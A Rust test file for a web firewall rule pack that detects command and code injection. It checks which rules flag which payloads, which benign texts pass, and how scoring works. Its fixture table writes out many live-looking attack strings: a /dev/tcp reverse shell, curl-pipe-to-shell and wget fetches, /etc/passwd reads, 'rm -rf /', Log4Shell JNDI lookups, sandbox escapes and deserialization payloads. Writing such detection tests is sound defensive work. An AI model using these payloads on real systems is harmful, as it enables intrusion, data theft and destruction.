//! The pack against command and code injection: what it finds, what it lets pass, how it scores.
#![allow(
    clippy::expect_used,
    clippy::panic,
    clippy::unwrap_used,
    reason = "a test ends where its assumptions do"
)]

use std::{net::IpAddr, sync::Arc};

use redan_types::Timestamp;
use redan_waf::{
    engine::{Connection, RuleSet, Transaction},
    pack::CODE_INJECTION,
    seclang::{Compiler, DEFAULTS, EngineMode, RuleFiles},
};

/// A rule set of the pack alone, or before a rule set that scores as the Core Rule Set does.
fn rules(settings: &str, after: &str) -> Arc<RuleSet> {
    let mut files = RuleFiles::new();
    files.insert("defaults.conf", DEFAULTS.to_vec());
    files.insert("settings.conf", settings.as_bytes().to_vec());
    files.insert("pack.conf", CODE_INJECTION.as_bytes().to_vec());
    files.insert("after.conf", after.as_bytes().to_vec());
    let order = ["defaults.conf", "settings.conf", "pack.conf", "after.conf"];
    let made = Compiler::new().compile(&files, &order);
    Arc::new(made.unwrap_or_else(|error| panic!("{error}")))
}

fn level(level: u8) -> Arc<RuleSet> {
    rules(
        &format!("SecAction \"id:1,phase:1,pass,nolog,setvar:tx.blocking_paranoia_level={level}\"\n"),
        "",
    )
}

fn begin(rules: &Arc<RuleSet>) -> Transaction {
    let mut transaction = Transaction::new(Arc::clone(rules));
    transaction.set_mode(EngineMode::On);
    let address: IpAddr = "192.0.2.1".parse().unwrap();
    let connection = Connection {
        client: address,
        client_port: 1,
        server: address,
        server_port: 443,
    };
    transaction.connection(&connection, "id", Timestamp(1_000_000_000_000_000));
    transaction
}

/// Sends a body; the ids that were logged, and whether it was refused.
fn post(rules: &Arc<RuleSet>, content_type: &str, body: &[u8]) -> (Vec<u64>, bool) {
    let mut transaction = begin(rules);
    transaction.request_line(b"POST", b"/run", b"HTTP/1.1");
    transaction.request_header(b"Host", b"example.org");
    transaction.request_header(b"Content-Type", content_type.as_bytes());
    transaction.request_headers_end();
    transaction.request_body(body);
    transaction.request_body_end();
    let ids = transaction.events().iter().map(|event| event.rule.id).collect();
    (ids, transaction.intervention().is_some())
}

/// A text as the value of a form's field, encoded.
fn form(text: &str) -> Vec<u8> {
    let mut body = b"text=".to_vec();
    for byte in text.bytes() {
        body.extend_from_slice(format!("%{byte:02x}").as_bytes());
    }
    body
}

fn found(rules: &Arc<RuleSet>, text: &str) -> Vec<u64> {
    post(rules, "application/x-www-form-urlencoded", &form(text)).0
}

/// What must be found at level 1, by which rule.
const ATTACKS: &[(u64, &str)] = &[
    (7_200_110, "import os; os.system('id')"),
    (7_200_110, "os . system ( 'id' )"),
    (7_200_110, "os.\\\n  popen('ls').read()"),
    (7_200_110, "subprocess.Popen(['sh', '-c', cmd])"),
    (7_200_110, "x = subprocess.check_output ('id', shell=True)"),
    (7_200_110, "importlib.import_module('os')"),
    (7_200_110, "%6f%73.system('id')"),
    (7_200_110, "\\x6f\\x73.system('id')"),
    (7_200_110, "&#111;s.system('id')"),
    (7_200_110, "\u{ff4f}\u{ff53}.system('id')"),
    (7_200_120, "__import__('os').system('id')"),
    (7_200_120, "__import__ ('os')"),
    (7_200_120, "().__class__.__bases__[0].__subclasses__()"),
    (7_200_120, "getattr(os, 'sys' + 'tem')('id')"),
    (7_200_120, "globals()['__builtins__']"),
    (7_200_120, "sys.modules['os']"),
    (7_200_130, "eval(input)"),
    (7_200_130, "eval ('1+1')"),
    (7_200_130, "eval/**/(x)"),
    (7_200_130, "exec(\"print(1)\")"),
    (7_200_130, "exec ( compile ( s, 'x', 'exec' ) )"),
    (7_200_130, "ev\\u0061l(x)"),
    (7_200_130, "setTimeout(\"alert(1)\", 0)"),
    (7_200_210, "require('child_process').execSync('id')"),
    (7_200_210, "require ( \"node:child_process\" )"),
    (7_200_210, "process.mainModule.require('fs')"),
    (7_200_210, "process['binding']('spawn_sync')"),
    (7_200_210, "vm.runInNewContext('x')"),
    (7_200_220, "new Function('return process')()"),
    (7_200_220, "this.constructor.constructor('return process')()"),
    (7_200_220, "window['ev'+'al']('1')"),
    (7_200_310, "<?php phpinfo(); ?>"),
    (7_200_310, "SYSTEM($_GET['c'])"),
    (7_200_310, "system/**/('id');"),
    (7_200_310, "assert(base64_decode('cGhwaW5mbygp'))"),
    (7_200_310, "preg_replace('/.*/e', 'phpinfo()', '')"),
    (7_200_310, "php://filter/convert.base64-encode/resource=index"),
    (7_200_410, "Kernel.exec('id')"),
    (7_200_410, "%x(id)"),
    (7_200_410, "obj.send(:system, 'id')"),
    (7_200_410, "Marshal.load(data)"),
    (7_200_510, "Runtime.getRuntime().exec(\"id\")"),
    (7_200_510, "new ProcessBuilder(\"sh\")"),
    (7_200_510, "T(java.lang.Runtime)"),
    (7_200_510, "class.module.classLoader.resources"),
    (7_200_520, "${jndi:ldap://x/a}"),
    (7_200_520, "${${lower:j}${lower:n}di:ldap://x/a}"),
    (7_200_520, "${${::-j}${::-n}${::-d}${::-i}:rmi://x}"),
    (7_200_610, "; cat /etc/passwd"),
    (7_200_610, "x|id"),
    (7_200_610, "$(whoami)"),
    (7_200_610, "`id`"),
    (7_200_615, "a && c\\at /etc/passwd"),
    (7_200_615, "a; 'c'\"a\"t /etc/passwd"),
    (7_200_610, "a\nwget http://x/y"),
    (7_200_610, "{cat,/etc/passwd}"),
    (7_200_610, "; sudo -n rm -rf /"),
    (7_200_620, "bash -i >& /dev/tcp/192.0.2.1/80 0>&1"),
    (7_200_620, "curl http://x/y | sh"),
    (7_200_620, "cat${IFS}/etc/passwd"),
    (7_200_620, "() { :; }; echo x"),
    (7_200_620, "powershell -nop -enc SQBFAFgA"),
    (7_200_620, "python3 -c 'print(1)'"),
    (7_200_710, "{{ config.items() }}"),
    (7_200_710, "{{ ''.__class__.__mro__ }}"),
    (7_200_710, "{{['id']|filter('system')}}"),
    (7_200_710, "<%= `id` %>"),
    (7_200_710, "${\"\".getClass().forName(\"x\")}"),
    (7_200_720, "{{7*7}}"),
    (7_200_720, "${7*7}"),
    (7_200_720, "<%= 7 * 7 %>"),
    (7_200_720, "#{ 7*'7' }"),
    (7_200_720, "<#assign x=\"freemarker.template.utility.Execute\"?new()>"),
    (7_200_720, "#set($x='')"),
    (7_200_720, "{% import os %}"),
    (7_200_810, "O:8:\"stdClass\":1:{s:1:\"a\";i:1;}"),
    (7_200_810, "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA=="),
    (7_200_810, "!!python/object/apply:os.system ['id']"),
    (7_200_810, "{\"rce\":\"_$$ND_FUNC$$_function(){}()\"}"),
    (7_200_810, "cos\nsystem\n(S'id'\ntR."),
    (7_200_810, "pickle.loads(data)"),
];

/// What people write without any harm.
const BENIGN: &[&str] = &[
    "Please evaluate the proposal and execute the plan by Friday.",
    "We will evaluate (and then decide on) the three offers; the executive (Ms. Chan) agreed.",
    "The exec (Bob) asked for an evaluation (again).",
    "The eval() function is dangerous, so is exec().",
    "The operating system (OS) is old; the heating system (gas) is new.",
    "I import wines from Italy & spirits from Spain; the subprocess of fermentation takes 3 weeks.",
    "Fish & chips; cats and dogs | birds",
    "Tom & Jerry; who is the cat?",
    "Costs: $5 (five), 50% off & more; call me at 555-1234.",
    "Use {curly} braces, [square] ones, and a `quoted word` here.",
    "Dear {{name}}, your order {{order_id}} has shipped.",
    "print('hello, world')",
    "def add(a, b):\n    return a + b\n\nprint(add(1, 2))",
    "for (let i = 0; i < 10; i++) { console.log(i); }",
    "function total(items) { return items.reduce((a, b) => a + b, 0); }",
    "SELECT name FROM system WHERE process = 'subprocess'",
    "class Shop:\n    def __init__(self):\n        self.items = []",
    "Order number 12/7*3, size 7 * 7 cm, area 49",
    "https://example.org/a/b?c=d&e=f#g",
    "/home/ann/photos/cat.jpg",
    "O'Brien & Sons; Head of Sales",
    "The host is at the door; find more: less is more.",
    "a@example.org; b@example.org; c@example.org",
    "C:\\Users\\Ann\\Documents",
    "Our constructor built the house; its prototype is parked outside.",
    "Ruby and Pearl are open 9-5; Marshal Smith loads trucks.",
    "Yes; set up the meeting, then time it & sort it out",
    "Runtime 95 min.; class of 2004; object: chair",
];

#[test]
fn attacks_are_found_by_the_rule_that_knows_them() {
    let rules = level(1);
    let missed: Vec<_> = ATTACKS
        .iter()
        .map(|(rule, text)| (rule, text, found(&rules, text)))
        .filter(|(rule, _, found)| !found.contains(rule))
        .collect();
    assert!(missed.is_empty(), "{missed:#?}");
}

#[test]
fn what_people_write_passes() {
    let rules = level(1);
    let wrong: Vec<_> = BENIGN
        .iter()
        .map(|text| (text, found(&rules, text)))
        .filter(|(_, found)| !found.is_empty())
        .collect();
    assert!(wrong.is_empty(), "{wrong:#?}");
}

#[test]
fn json_that_only_talks_about_code_passes() {
    let rules = level(1);
    for body in [
        r#"{"language":"python","module":"os","call":"system","title":"How to evaluate (well)"}"#,
        r#"{"import":"os","require":"1.0","exec":true,"eval":null,"subprocess":3}"#,
        r#"{"source":"def f(x):\n    return x * 2\n","tests":["f(2) == 4"]}"#,
        r#"{"type":"com.example","template":"Dear {{name}}","price":"$5","cmd":"start"}"#,
        r#"{"host":"db.example.org","file":"report.final.pdf","name":"a.b.c"}"#,
    ] {
        let (ids, refused) = post(&rules, "application/json", body.as_bytes());
        assert!(ids.is_empty() && !refused, "{body}: {ids:?}");
    }
}

#[test]
fn json_is_looked_at_leaf_by_leaf_and_once() {
    let rules = level(1);
    let (ids, refused) = post(&rules, "application/json", br#"{"a":{"b":["x","os.system('id')"]}}"#);
    assert_eq!((ids, refused), (vec![7_200_110, 7_200_910], true));
    let (ids, _) = post(
        &rules,
        "application/json",
        br#"{"a":{"@type":"com.sun.rowset.JdbcRowSetImpl"}}"#,
    );
    assert_eq!(ids, [7_200_820, 7_200_910]);
    let (ids, _) = post(&rules, "application/json", br#"{"__proto__":{"admin":true}}"#);
    assert!(ids.contains(&7_200_230), "{ids:?}");
}

#[test]
fn a_body_that_nobody_takes_apart_is_looked_at_whole() {
    let rules = level(1);
    let (ids, refused) = post(&rules, "text/plain", b"os.system('id')");
    assert_eq!((ids, refused), (vec![7_200_110, 7_200_910], true));
    let (ids, _) = post(
        &rules,
        "application/octet-stream",
        b"\xac\xed\x00\x05sr\x00\x11java.util.HashMap",
    );
    assert_eq!(ids, [7_200_810, 7_200_910]);
}

#[test]
fn a_higher_level_finds_more() {
    let text = "import os";
    assert!(found(&level(1), text).is_empty());
    assert_eq!(found(&level(2), text), [7_200_140, 7_200_910]);
    let text = "the popen(3) function";
    assert!(found(&level(2), text).is_empty());
    assert_eq!(found(&level(3), text), [7_200_160, 7_200_910]);
}

#[test]
fn a_level_that_is_only_recorded_refuses_nothing() {
    let rules = rules(
        "SecAction \"id:1,phase:1,pass,nolog,setvar:tx.blocking_paranoia_level=1,setvar:tx.detection_paranoia_level=2\"\n",
        "",
    );
    assert_eq!(
        post(&rules, "application/x-www-form-urlencoded", &form("import os")),
        (vec![7_200_140], false)
    );
}

#[test]
fn a_rule_set_that_scores_decides_where_it_is_loaded() {
    for name in ["inbound_anomaly_score_pl1", "anomaly_score_pl1"] {
        let rules = rules(
            "SecAction \"id:1,phase:1,pass,nolog,setvar:tx.crs_setup_version=1,setvar:tx.critical_anomaly_score=7\"\n",
            &format!(
                "SecAction \"id:2,phase:1,pass,nolog,setvar:tx.{name}=0\"\n\
                 SecRule TX:{name} \"@ge 7\" \"id:3,phase:2,deny,status:403,log\"\n"
            ),
        );
        let mut transaction = begin(&rules);
        transaction.request_line(b"GET", b"/?x=os.system(1)", b"HTTP/1.1");
        transaction.request_headers_end();
        transaction.request_body_end();
        let events = transaction.events();
        let told: Vec<_> = events
            .iter()
            .map(|event| (event.rule.id, event.score.points, event.score.level))
            .collect();
        assert_eq!(told, [(7_200_110, 7, 1), (3, 0, 0)]);
    }
}

#[test]
fn every_rule_has_an_id_of_the_packs_range_and_its_tag() {
    for rule in level(4).rules().filter(|rule| rule.file.as_ref() == "pack.conf") {
        assert!((7_200_000..7_201_000).contains(&rule.id), "{}", rule.id);
        let tagged = rule.tags().any(|tag| tag == "redan/code-injection");
        assert!(tagged || rule.message().is_empty(), "{}", rule.id);
    }
    assert!(
        level(4)
            .patterns()
            .all(|(_, kind)| kind == redan_waf::operator::PatternKind::Regular),
        "a pattern needs the backtracking engine"
    );
}
